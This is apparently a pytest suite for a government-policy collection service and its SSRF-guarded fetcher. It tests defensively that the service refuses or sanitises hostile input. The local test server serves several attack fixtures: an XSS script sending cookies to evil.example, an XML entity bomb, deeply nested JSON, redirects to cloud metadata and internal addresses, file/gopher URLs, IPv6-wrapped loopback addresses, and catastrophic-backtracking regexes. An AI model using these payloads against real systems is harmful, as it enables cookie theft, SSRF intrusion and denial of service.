"""Collection against a local web server, hostile pages included; the fetcher's SSRF guards."""

from __future__ import annotations

import datetime as dt
import json
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from qifu.core import jobs, safe_fetch
from qifu.core.jobs_models import JobRun
from qifu.policies import collection, services
from qifu.policies.models import CollectionRun, CollectionSource, Policy
from qifu.policies.tasks import COLLECT

LIST_PAGE = """<html><head><meta charset="utf-8"><title>政策文件</title></head><body>
<ul class="list">
  <li><a href="/art/2026/1.html">关于印发《甲区专精特新中小企业培育奖励办法》的通知</a></li>
  <li><a href="/art/2026/2.html">甲区稳岗补贴申领指南（2026年）</a></li>
  <li><a href="/art/2026/3.html">甲区首贷贴息政策实施细则</a></li>
  <li><a href="/about.html">关于我们的介绍</a></li>
  <li><a href="javascript:alert(1)">恶意链接不应被采集</a></li>
</ul></body></html>"""

DETAIL = """<html><head><meta charset="{charset}">
<meta name="ArticleTitle" content="{title}"><meta name="PubDate" content="2026-03-0{n} 09:00">
<meta name="ContentSource" content="甲区工业和信息化局"><title>{title}_甲区人民政府</title></head>
<body><h1>{title}</h1><div class="info">发布日期：2026-03-0{n}</div>
<div id="zoom"><p>甲工信发〔2026〕{n}号</p><p>各镇（街道）：为支持企业发展，现就有关事项通知如下。</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<p onmouseover="steal()">一、支持对象为辖区内依法登记的企业。</p><img src="x" onerror="alert(1)"><style>body{{}}</style>
<iframe src="https://evil.example"></iframe></div><div class="footer">版权所有</div></body></html>"""

TITLES = {1: "甲区专精特新中小企业培育奖励办法", 2: "甲区稳岗补贴申领指南（2026年）", 3: "甲区首贷贴息政策实施细则"}
LISTED = {1: "关于印发《甲区专精特新中小企业培育奖励办法》的通知", 2: TITLES[2], 3: TITLES[3]}

RSS = """<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>政策</title>
<item><title>高新技术企业认定奖励通知</title><link>/rss/1.html</link><pubDate>Mon, 02 Mar 2026 08:00:00 +0800</pubDate>
<description><![CDATA[<p>对首次认定的高新技术企业给予奖励。</p><script>alert(1)</script>]]></description></item>
</channel></rss>"""

BOMB = """<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]>
<rss><channel><item><title>&lol2;</title><link>/x</link></item></channel></rss>"""

FEED = {
    "data": {
        "rows": [
            {
                "name": "研发费用加计扣除政策指引",
                "link": "/json/1.html",
                "time": "2026-03-05",
                "wh": "国税发〔2026〕5号",
                "html": "<p>企业研发费用按100%加计扣除。</p>",
            }
        ]
    }
}


class Handler(BaseHTTPRequestHandler):
    def log_message(self, *args):  # keep test output quiet
        pass

    def send(self, body: bytes, content_type="text/html; charset=utf-8", status=200, headers=None):
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        for key, value in (headers or {}).items():
            self.send_header(key, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        path = self.path
        if path == "/list.html":
            return self.send(LIST_PAGE.encode())
        if path.startswith("/art/2026/"):
            n = int(path.rsplit("/", 1)[-1].split(".")[0])
            if n == 2:  # a GBK page as many government sites still serve
                page = DETAIL.format(charset="gbk", title=TITLES[n], n=n).encode("gbk")
                return self.send(page, content_type="text/html")
            return self.send(DETAIL.format(charset="utf-8", title=TITLES[n], n=n).encode())
        if path == "/rss.xml":
            return self.send(RSS.encode(), content_type="application/rss+xml")
        if path == "/bomb.xml":
            return self.send(BOMB.encode(), content_type="application/rss+xml")
        if path.startswith(("/rss/", "/json/")):
            return self.send(DETAIL.format(charset="utf-8", title="详情页", n=4).encode())
        if path == "/deep.json":  # json.loads recurses once per level: RecursionError, not ValueError
            return self.send(b"[" * 100_000, content_type="application/json")
        if path == "/x-links.html":  # links on which a backtracking-prone rule explodes
            links = "".join(f'<a href="/{"x" * (300 + n)}">链接标题第{n}条</a>' for n in range(3))
            return self.send(f"<html><body>{links}</body></html>".encode())
        if path == "/feed.json":
            return self.send(json.dumps(FEED, ensure_ascii=False).encode(), content_type="application/json")
        if path == "/huge":
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()  # no Content-Length: the cap must hold while streaming
            chunk = b"<p>" + b"x" * 65536 + b"</p>"
            try:
                for _ in range(200):
                    self.wfile.write(chunk)
            except (BrokenPipeError, ConnectionResetError):
                pass
            return None
        if path == "/slow":
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            try:
                for _ in range(40):
                    self.wfile.write(b"<p>drip</p>")
                    self.wfile.flush()
                    time.sleep(0.1)
            except (BrokenPipeError, ConnectionResetError):
                pass
            return None
        if path == "/to-internal":
            return self.send(
                b"", status=302, headers={"Location": f"http://127.0.0.2:{self.server.server_port}/list.html"}
            )
        if path == "/to-metadata":
            return self.send(b"", status=301, headers={"Location": "http://169.254.169.254/latest/meta-data/"})
        if path == "/to-list":
            return self.send(b"", status=302, headers={"Location": "/list.html"})
        if path == "/loop":
            return self.send(b"", status=302, headers={"Location": "/loop"})
        return self.send(b"not found", status=404)


@pytest.fixture(scope="module")
def server():
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_port}"
    httpd.shutdown()
    httpd.server_close()


@pytest.fixture
def allow_local(settings):
    # Only the test server's own address is allowed; every other internal address stays refused.
    settings.QIFU_FETCH_ALLOWED_NETWORKS = ["127.0.0.1/32"]


# --------------------------------------------------------------------------- the fetcher
def test_loopback_is_refused_without_the_allowance(server, settings):
    settings.QIFU_FETCH_ALLOWED_NETWORKS = []
    for url in (server + "/list.html", "http://localhost/", server.replace("127.0.0.1", "localhost")):
        with pytest.raises(safe_fetch.FetchError) as info:
            safe_fetch.fetch(url)
        assert info.value.code == "fetch.forbidden_address"


@pytest.mark.parametrize(
    ("url", "code"),
    [
        ("file:///etc/passwd", "fetch.bad_scheme"),
        ("ftp://example.com/x", "fetch.bad_scheme"),
        ("gopher://127.0.0.1:25/", "fetch.bad_scheme"),
        ("http://user:pw@example.com/", "fetch.bad_url"),
        ("http://10.0.0.8/", "fetch.forbidden_address"),
        ("http://[::1]/", "fetch.forbidden_address"),
        ("http://[::ffff:127.0.0.1]/", "fetch.forbidden_address"),
        ("http://169.254.169.254/latest/meta-data/", "fetch.forbidden_address"),
        ("http://0.0.0.0/", "fetch.forbidden_address"),
        # IPv6 forms that reach an IPv4 address: 6to4 of 127.0.0.1 and of 10.0.0.1, Teredo,
        # NAT64 of 10.0.0.1 and 127.0.0.1, local-use NAT64, deprecated site-local.
        ("http://[2002:7f00:1::]/", "fetch.forbidden_address"),
        ("http://[2002:a00:1::1]/", "fetch.forbidden_address"),
        ("http://[2001:0:4136:e378:8000:63bf:3fff:fdd2]/", "fetch.forbidden_address"),
        ("http://[64:ff9b::a00:1]/", "fetch.forbidden_address"),
        ("http://[64:ff9b::7f00:1]/", "fetch.forbidden_address"),
        ("http://[64:ff9b:1::808:808]/", "fetch.forbidden_address"),
        ("http://[fec0::1]/", "fetch.forbidden_address"),
    ],
)
def test_refused_targets(url, code, allow_local):
    with pytest.raises(safe_fetch.FetchError) as info:
        safe_fetch.fetch(url)
    assert info.value.code == code


def test_wrapped_addresses_are_judged_by_what_they_reach():
    import ipaddress

    def public(text: str) -> bool:
        return safe_fetch.is_public(ipaddress.ip_address(text))

    assert public("64:ff9b::808:808")  # NAT64 of a public address reaches that address
    assert public("2400:cb00::1") and public("8.8.8.8")
    for text in ("2002:808:808::", "2002:7f00:1::", "2001::1", "fec0::1", "64:ff9b::c0a8:1", "::ffff:192.168.0.1"):
        assert not public(text), text


def test_redirects_are_rechecked(server, allow_local):
    ok = safe_fetch.fetch(server + "/to-list")
    assert ok.redirects == [server + "/list.html"] and b"list" in ok.content
    for path in ("/to-internal", "/to-metadata"):
        with pytest.raises(safe_fetch.FetchError) as info:
            safe_fetch.fetch(server + path)
        assert info.value.code == "fetch.forbidden_address"
    with pytest.raises(safe_fetch.FetchError) as info:
        safe_fetch.fetch(server + "/loop", max_redirects=3)
    assert info.value.code == "fetch.too_many_redirects"


def test_size_and_time_limits(server, allow_local):
    with pytest.raises(safe_fetch.FetchError) as info:
        safe_fetch.fetch(server + "/huge", max_bytes=256 * 1024)
    assert info.value.code == "fetch.too_large"
    with pytest.raises(safe_fetch.FetchError) as info:
        safe_fetch.fetch(server + "/slow", timeout=0.5)
    assert info.value.code == "fetch.timeout"


# --------------------------------------------------------------------------- extraction
def test_detail_extraction_strips_scripts():
    item = collection.extract_page(DETAIL.format(charset="utf-8", title=TITLES[1], n=1), "https://x.gov.cn/1.html")
    assert item.title == TITLES[1]
    assert item.date == dt.date(2026, 3, 1)
    assert item.number == "甲工信发〔2026〕1号"
    assert item.department == "甲区工业和信息化局"
    for bad in ("<script", "document.cookie", "onmouseover", "onerror", "<iframe", "<style", "版权所有"):
        assert bad not in item.body
    assert "一、支持对象为辖区内依法登记的企业。" in item.body


def test_extraction_fallbacks_without_meta():
    page = "<html><body><h1>甲区人才引进补贴办法</h1><p>来源：甲区人才办</p><p>2025年12月8日</p><p>正文第一段。</p></body></html>"
    item = collection.extract_page(page, "https://x.gov.cn/2.html")
    assert item.title == "甲区人才引进补贴办法"
    assert item.date == dt.date(2025, 12, 8)
    assert item.department == "甲区人才办"
    assert "正文第一段" in item.body


def test_near_identical_titles():
    a = collection.normalise_title("关于印发《甲区专精特新中小企业培育奖励办法》的通知")
    assert a == collection.normalise_title("甲区专精特新中小企业培育奖励办法")
    assert collection.similar_titles(a, collection.normalise_title("甲区专精特新中小企业培育奖励办法 "))
    assert not collection.similar_titles(a, collection.normalise_title("甲区稳岗补贴申领指南"))


# --------------------------------------------------------------------------- runs
def _source(server, **fields) -> CollectionSource:
    defaults = {"name": "甲区政府网", "kind": "html_list", "url": server + "/list.html", "link_pattern": r"/art/\d{4}/"}
    defaults.update(fields)
    return CollectionSource.objects.create(**defaults)


def test_list_source_creates_drafts_and_dedupes(server, allow_local, in_tenant):
    source = _source(server)
    run = collection.run_source(source, trigger="manual")
    assert (run.status, run.found, run.created, run.duplicates, run.failed) == ("success", 3, 3, 0, 0)
    drafts = {p.title: p for p in Policy.objects.filter(origin="collected")}
    assert set(drafts) == set(LISTED.values())  # the list page's link text is the document's full title
    first = drafts[LISTED[1]]
    assert first.status == "draft" and first.collected_from == source
    assert first.number == "甲工信发〔2026〕1号" and first.publish_date == dt.date(2026, 3, 1)
    assert first.department == "甲区工业和信息化局" and "<script" not in first.body
    assert drafts[TITLES[2]].number == "甲工信发〔2026〕2号"  # decoded from GBK
    again = collection.run_source(source)
    assert (again.created, again.duplicates) == (0, 3)
    assert CollectionSource.objects.get(pk=source.pk).last_run_at is not None


def test_near_identical_policy_from_another_url_is_a_duplicate(server, allow_local, in_tenant):
    services.create_policy(
        {
            "title": "关于印发《甲区首贷贴息政策实施细则》的通知",
            "level": "district",
            "publish_date": dt.date(2026, 3, 3),
        }
    )
    run = collection.run_source(_source(server))
    assert (run.created, run.duplicates) == (2, 1)


def test_rss_and_json_sources(server, allow_local, in_tenant):
    rss = collection.run_source(_source(server, kind="rss", url=server + "/rss.xml", name="RSS"))
    assert (rss.status, rss.created) == ("success", 1)
    policy = Policy.objects.get(title="高新技术企业认定奖励通知")
    assert policy.publish_date == dt.date(2026, 3, 2) and "<script" not in policy.body
    feed = _source(
        server,
        kind="json",
        url=server + "/feed.json",
        json_items="data.rows",
        json_fields={"title": "name", "url": "link", "date": "time", "number": "wh", "body": "html"},
        department="国家税务总局",
    )
    run = collection.run_source(feed)
    assert run.created == 1
    policy = Policy.objects.get(title="研发费用加计扣除政策指引")
    assert policy.number == "国税发〔2026〕5号" and policy.department == "国家税务总局"


def test_hostile_sources_fail_cleanly(server, allow_local, in_tenant):
    internal = collection.run_source(_source(server, url=server + "/to-internal"))
    assert internal.status == "failed" and "内网" in internal.errors[0]["message"]
    bomb = collection.run_source(_source(server, kind="rss", url=server + "/bomb.xml"))
    assert bomb.status == "failed" and bomb.created == 0
    huge = collection.run_source(_source(server, url=server + "/huge"))
    assert huge.status == "failed"
    assert Policy.objects.count() == 0


def test_deeply_nested_json_feed_closes_the_run(server, allow_local, in_tenant):
    from qifu.core.audit_models import AuditEntry

    source = _source(server, kind="json", url=server + "/deep.json", name="嵌套攻击")
    run = collection.run_source(source)
    run.refresh_from_db()
    assert run.status == "failed" and run.finished_at is not None
    assert "嵌套" in run.errors[0]["message"]
    assert CollectionSource.objects.get(pk=source.pk).last_run_at is not None
    assert AuditEntry.objects.filter(action="policies.collection.run", object_id=str(source.pk)).exists()


def test_any_failure_still_closes_the_run(server, allow_local, in_tenant, monkeypatch):
    def broken(source, deadline=None):
        raise RuntimeError("parser bug")

    monkeypatch.setattr(collection, "list_items", broken)
    source = _source(server)
    run = collection.run_source(source)
    run.refresh_from_db()
    assert run.status == "failed" and run.finished_at is not None
    assert run.errors[0]["message"].startswith("归集中断")
    assert not CollectionRun.objects.filter(status="running").exists()


def test_a_run_stops_at_its_time_budget(server, allow_local, in_tenant, monkeypatch, settings):
    # A clock that moves 100 s per reading: the run reads it for its deadline (0 → 350), before
    # the list fetch (100), before item 1 (200), before its detail fetch (300), before item 2 (400).
    ticks = iter(range(0, 10_000, 100))
    monkeypatch.setattr(collection, "_now", lambda: next(ticks))
    settings.QIFU_COLLECT_MAX_SECONDS = 350
    run = collection.run_source(_source(server))
    assert (run.status, run.found, run.created) == ("partial", 3, 1)
    assert "超过单次归集时限（350 秒），其余 2 条留待下次归集" in run.errors[-1]["message"]


def test_bad_time_budget_setting_is_refused(settings):
    from django.core.exceptions import ImproperlyConfigured

    for bad in ("soon", 0, 5):
        settings.QIFU_COLLECT_MAX_SECONDS = bad
        with pytest.raises(ImproperlyConfigured):
            collection.run_limit_seconds()


def test_runs_left_running_by_a_killed_worker_are_closed_by_the_job(server, allow_local, in_tenant, cast):
    from django.utils import timezone

    source = _source(server, is_active=False)
    orphan = CollectionRun.objects.create(source=source, found=4, created=1)
    CollectionRun.objects.filter(pk=orphan.pk).update(created_at=timezone.now() - dt.timedelta(hours=2))
    current = CollectionRun.objects.create(source=source)  # may still be working: left alone
    output = jobs.run_now(COLLECT, cast.tenant)
    assert "1 条未正常结束的运行记录已标记为失败" in output
    orphan.refresh_from_db()
    current.refresh_from_db()
    assert orphan.status == "failed" and orphan.finished_at is not None and "未正常结束" in orphan.message
    assert current.status == "running"


def test_link_rules_are_bounded():
    for slow in (r"(a+)+$", r"(\d+)*$", r"(\w+)+$", r"(.*a){12}!"):
        with pytest.raises(Exception) as info:
            collection.compile_link_rule(slow)
        assert info.value.code == "policies.bad_pattern", slow
    assert collection.compile_link_rule(r"/art/\d{4}/").search("https://x.gov.cn/art/2026/1.html")
    assert collection.compile_link_rule("") is None


def test_a_rule_slow_on_the_real_links_is_cut_off(server, allow_local, in_tenant, monkeypatch):
    monkeypatch.setattr(collection, "RULE_BUDGET_SECONDS", 0.2)
    rule = r"(x+x+)+y"  # passes the probes (they hold no run of x) and explodes on /xxxx…
    collection.compile_link_rule(rule)
    run = collection.run_source(_source(server, url=server + "/x-links.html", link_pattern=rule))
    assert run.status == "failed" and "链接规则匹配耗时过长" in run.errors[0]["message"]


def test_scheduled_job_runs_every_active_source_and_records_runs(server, allow_local, in_tenant, cast):
    _source(server)
    _source(server, name="停用来源", is_active=False, url=server + "/rss.xml", kind="rss")
    output = jobs.run_now(COLLECT, cast.tenant)
    assert "新建草稿 3 条" in output
    assert CollectionRun.objects.count() == 1
    assert JobRun.objects.filter(job=COLLECT, status="success").exists()


def test_console_manages_sources_and_sees_runs(server, allow_local, api, cast, django_capture_on_commit_callbacks):
    client = api(cast.staff_a)
    bad = client.post("policies/manage/sources", {"name": "x", "kind": "html_list", "url": "ftp://x/y"})
    assert bad.status_code == 422
    bad_rule = {"name": "x", "kind": "html_list", "url": server + "/list.html", "link_pattern": "(["}
    assert client.post("policies/manage/sources", bad_rule).json()["code"] == "policies.bad_pattern"
    slow_rule = {**bad_rule, "link_pattern": "(a+)+$"}
    refused = client.post("policies/manage/sources", slow_rule)
    assert refused.json()["code"] == "policies.bad_pattern" and "过于复杂" in refused.json()["message"]
    created = client.post(
        "policies/manage/sources",
        {"name": "甲区政府网", "kind": "html_list", "url": server + "/list.html", "link_pattern": r"/art/\d{4}/"},
    )
    assert created.status_code == 201
    sid = created.json()["id"]
    with django_capture_on_commit_callbacks(execute=True):
        started = client.post(f"policies/manage/sources/{sid}/run")
    assert started.status_code == 202
    runs = client.get(f"policies/manage/sources/{sid}/runs").json()
    assert runs["total"] == 1 and runs["items"][0]["created"] == 3 and runs["items"][0]["trigger"] == "manual"
    collected = client.get("policies/manage/policies", {"origin": "collected", "status": "draft"}).json()
    assert collected["total"] == 3
    assert api(cast.outsider).get(f"policies/manage/sources/{sid}/runs").status_code in (403, 404)
